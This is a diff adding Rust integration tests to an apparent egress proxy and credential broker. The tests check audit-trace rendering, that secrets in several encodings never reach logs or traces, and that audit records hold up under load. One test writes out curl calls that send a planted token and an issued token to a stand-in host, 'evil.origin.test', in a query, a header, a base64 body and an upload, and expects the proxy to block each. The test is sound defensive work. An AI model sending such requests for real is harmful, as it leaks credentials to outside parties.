@@ -432,6 +432,56 @@ fn a_stolen_database_password_is_dead_on_the_server_within_a_second_of_the_block
     }
     assert!(!joined.contains(&password));
     eprintln!("{joined}");
+    // The same timeline as a page: Chromium renders it with no network, and its DOM holds a
+    // row for every event of the trace, denials and revocations marked out.
+    let with_openbao = |format: &str| {
+        let out = support::tollgate()
+            .args(["audit", "trace", &id, "--format", format])
+            .args(&files)
+            .arg("--openbao")
+            .arg(stack.bao.audit_log())
+            .output()
+            .expect("trace");
+        assert!(out.status.success());
+        out.stdout
+    };
+    let events: Vec<serde_json::Value> = serde_json::from_slice(&with_openbao("json")).expect("json trace");
+    let page = stack.proxy.dir.path().join("trace.html");
+    std::fs::write(&page, with_openbao("html")).expect("page");
+    let dom = support::rendered_dom(&page);
+    assert!(!dom.contains(&password), "the password is in the page");
+    assert_eq!(
+        dom.matches("<tr id=\"e").count(),
+        events.len(),
+        "one row per event in the rendered page"
+    );
+    for (n, event) in events.iter().enumerate() {
+        let kind = event["type"].as_str().expect("type");
+        let row = format!("<tr id=\"e{n}\" class=\"event ");
+        let at = dom
+            .find(&row)
+            .unwrap_or_else(|| panic!("event {n} ({kind}) is not in the DOM"));
+        let row_text = &dom[at..dom[at..].find("</tr>").map_or(dom.len(), |end| at + end)];
+        assert!(row_text.contains(&format!("data-type=\"{kind}\"")), "{row_text}");
+        let tone = match kind {
+            "egress.deny" | "credential.deny" | "budget.exceeded" => "deny",
+            "credential.revoke" => "revoke",
+            _ => "",
+        };
+        if !tone.is_empty() {
+            assert!(
+                row_text.starts_with(&format!("{row}{tone}\"")),
+                "{kind} does not stand out: {row_text}"
+            );
+        }
+    }
+    assert!(dom.contains("class=\"lane\""), "lanes per service");
+    for lane in ["broker", "proxy", "openbao"] {
+        assert!(
+            dom.contains(&format!("<div class=\"name\">{lane}</div>")),
+            "no {lane} lane"
+        );
+    }
     // An edited record is caught, with its line.
     let edited = String::from_utf8_lossy(&proxy_file).replacen("egress.deny", "egress.allow", 1);
     std::fs::write(&files[1], edited).expect("tamper");
@@ -574,5 +624,221 @@ fn a_fingerprint_exemption_lets_a_documented_example_through_but_never_an_issued
         (status, reason(&body).as_str()),
         (403, "issued_credential_misuse"),
         "{body}"
+    );
+}
+
+/// Every form a value may take that the detectors see through, so that a record holding any
+/// of them counts as a leak.
+fn encodings(value: &str) -> Vec<String> {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
+    let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
+    let percent: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
+    vec![
+        value.to_owned(),
+        STANDARD.encode(value),
+        STANDARD_NO_PAD.encode(value),
+        URL_SAFE_NO_PAD.encode(value),
+        hex.clone(),
+        hex.to_uppercase(),
+        percent,
+    ]
+}
+
+#[test]
+fn no_secret_value_reaches_a_log_a_record_or_a_trace_at_debug() {
+    use base64::Engine as _;
+    let stack = Stack::start();
+    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
+    let placeholder = stack.value(&id, &secret, "api-key");
+    let token = stack.value(&id, &secret, "child-token");
+    let db = stack.broker.credential(&id, &secret, "db").1;
+    let password = db["value"].as_str().expect("password").to_owned();
+    // A value only its shape gives away, made fresh for this run.
+    let planted = format!("ghp_{}", &sha256(&id)[..36]);
+    let real = KV[0].2;
+    let secrets: Vec<(&str, &str)> = vec![
+        ("the injected key", real),
+        ("the child token", &token),
+        ("the database password", &password),
+        ("a planted GitHub token", &planted),
+        ("the proxy credential's secret", &secret),
+    ];
+
+    // Allowed: the bound host gets the real value injected in place of the placeholder.
+    let check = stack.url(
+        "api.origin.test",
+        &format!("/check?header=x-api-key&sha256={}", sha256(real)),
+    );
+    let (status, body) = stack.curl(
+        &id,
+        &secret,
+        &["-H", &format!("X-Api-Key: {placeholder}"), &check],
+    );
+    assert_eq!(status, 200, "{body}");
+    assert!(body.contains("\"match\": true"), "{body}");
+    // Blocked: the planted token in the query, a header and the body, plain and base64'd.
+    let encoded = base64::engine::general_purpose::STANDARD.encode(&planted);
+    let evil = |path: &str| stack.url("evil.origin.test", path);
+    for args in [
+        vec![evil(&format!("/q?token={planted}"))],
+        vec![
+            "-H".to_owned(),
+            format!("Authorization: token {planted}"),
+            evil("/h"),
+        ],
+        vec![
+            "--data-binary".to_owned(),
+            format!("{{\"k\":\"{encoded}\"}}"),
+            evil("/b"),
+        ],
+    ] {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, body) = stack.curl(&id, &secret, &args);
+        assert_eq!(
+            (status, reason(&body).as_str()),
+            (403, "secret_detected"),
+            "{body}"
+        );
+    }
+    // Blocked last, since it ends the invocation: an issued value sent where it is not bound.
+    let (status, body) = stack.curl(
+        &id,
+        &secret,
+        &["--data-binary", &format!("token={token}"), &evil("/upload")],
+    );
+    assert_eq!(
+        (status, reason(&body).as_str()),
+        (403, "issued_credential_misuse"),
+        "{body}"
+    );
+
+    let files = [
+        stack.broker.dir.path().join("provenance.jsonl"),
+        stack.proxy.dir.path().join("provenance.jsonl"),
+    ];
+    let trace = |format: &str| {
+        let out = support::tollgate()
+            .args(["audit", "trace", &id, "--format", format])
+            .args(&files)
+            .arg("--openbao")
+            .arg(stack.bao.audit_log())
+            .output()
+            .expect("trace");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    assert!(
+        wait_until(Duration::from_secs(5), || trace("text")
+            .contains("credential.revoke"))
+        .is_some(),
+        "{}",
+        trace("text")
+    );
+    let verify = support::tollgate()
+        .args(["audit", "verify"])
+        .args(&files)
+        .output()
+        .expect("verify");
+    let (proxy_log, broker_log) = (stack.proxy.log_text(), stack.broker.log_text());
+    assert!(
+        proxy_log.contains("DEBUG") && broker_log.contains("DEBUG"),
+        "both services logged at debug"
+    );
+    let mut outputs: Vec<(String, String)> = vec![
+        ("the proxy's log".to_owned(), proxy_log),
+        ("the broker's log".to_owned(), broker_log),
+        ("the text trace".to_owned(), trace("text")),
+        ("the JSON trace".to_owned(), trace("json")),
+        ("the HTML trace".to_owned(), trace("html")),
+        (
+            "audit verify".to_owned(),
+            String::from_utf8_lossy(&verify.stdout).into_owned(),
+        ),
+    ];
+    for file in &files {
+        outputs.push((
+            file.display().to_string(),
+            std::fs::read_to_string(file).expect("provenance"),
+        ));
+    }
+    assert!(outputs[2].1.contains("egress.deny") && outputs[2].1.contains("credential.issue"));
+    for (what, value) in &secrets {
+        for form in encodings(value) {
+            for (place, text) in &outputs {
+                assert!(!text.contains(&form), "{what} is in {place} (as {form})");
+            }
+        }
+    }
+}
+
+#[test]
+fn under_load_every_request_of_every_invocation_is_recorded_and_the_chains_verify() {
+    const INVOCATIONS: usize = 16;
+    const REQUESTS: usize = 25;
+    let stack = Stack::start();
+    let invocations: Vec<(String, String)> = (0..INVOCATIONS)
+        .map(|i| stack.broker.invocation("t", "fetch", &format!("s{i}")))
+        .collect();
+    // One thread per invocation, all at once, each on its own keep-alive session.
+    let script = r#"
+import sys, threading, requests
+ca, url, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
+proxies = sys.argv[4:]
+codes = []
+def run(proxy):
+    s = requests.Session()
+    s.trust_env = False
+    s.proxies = {"https": proxy}
+    s.verify = ca
+    for i in range(n):
+        codes.append(s.get(f"{url}?i={i}", timeout=30).status_code)
+threads = [threading.Thread(target=run, args=(p,)) for p in proxies]
+for t in threads: t.start()
+for t in threads: t.join()
+print(" ".join(map(str, codes)))
+"#;
+    let out = Command::new(support::python())
+        .args(["-c", script])
+        .arg(stack.proxy.ca())
+        .arg(stack.url("api.origin.test", "/load"))
+        .arg(REQUESTS.to_string())
+        .args(invocations.iter().map(|(id, secret)| stack.proxy.url(id, secret)))
+        .output()
+        .expect("load");
+    let codes = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(
+        codes.split_whitespace().filter(|c| *c == "200").count(),
+        INVOCATIONS * REQUESTS,
+        "{codes}"
+    );
+    let records = stack.proxy.dir.path().join("provenance.jsonl");
+    let count = |id: &str| {
+        std::fs::read_to_string(&records)
+            .unwrap_or_default()
+            .lines()
+            .filter(|l| {
+                l.contains("\"type\":\"egress.allow\"")
+                    && l.contains(&format!("\"tollgate.invocation.id\":\"{id}\""))
+            })
+            .count()
+    };
+    for (id, _) in &invocations {
+        assert!(
+            wait_until(Duration::from_secs(5), || count(id) == REQUESTS).is_some(),
+            "invocation {id}: {} egress records for {REQUESTS} requests",
+            count(id)
+        );
+    }
+    let key = std::fs::read_to_string(stack.proxy.dir.path().join("provenance.jsonl.key.pub")).expect("key");
+    let verify = support::tollgate()
+        .args(["audit", "verify", "--key", key.trim()])
+        .arg(&records)
+        .output()
+        .expect("verify");
+    assert!(
+        verify.status.success(),
+        "{}",
+        String::from_utf8_lossy(&verify.stdout)
     );
 }
